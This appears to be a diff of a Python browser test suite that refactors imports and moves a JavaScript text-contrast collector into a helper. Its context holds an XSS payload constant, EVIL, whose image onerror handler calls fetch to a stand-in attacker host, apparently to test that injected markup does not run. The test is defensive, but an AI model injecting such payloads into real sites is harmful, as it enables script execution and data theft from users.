@@ -4,7 +4,8 @@ import re
 
 import pytest
 from backends import Process, task, wait_until
-from browser import chromium, contrast, opened
+from browser import opened
+from browsing import chromium, contrast, texts
 
 pytestmark = pytest.mark.browser
 EVIL = "<img src=x onerror=\"window.broken=1;fetch('https://evil.example')\">"
@@ -75,19 +76,7 @@ def test_it_fits_shows_its_plots_and_asks_nobody_else(browser, backend, theme, s
 def test_all_text_can_be_read(browser, backend, theme):
     with opened(browser, backend, viewport=WIDE, color_scheme=theme) as page:
         page.locator("summary", has_text="Vocals").click()
-        colours = page.evaluate(
-            """() => {
-              const own = (element) => [...element.childNodes].some((n) => n.nodeType === 3 && n.textContent.trim());
-              const behind = (element) => {
-                for (; element; element = element.parentElement) {
-                  const colour = getComputedStyle(element).backgroundColor;
-                  if (!colour.startsWith("rgba")) return colour;
-                }
-              };
-              return [...document.body.querySelectorAll("*")].filter((e) => e.offsetWidth && own(e))
-                .map((e) => [getComputedStyle(e).color, behind(e), e.textContent.slice(0, 40)]);
-            }"""
-        )
+        colours = texts(page)
         assert len(colours) > 100
         for text, ground, what in colours:
             assert contrast(text, ground) >= 4.5, what
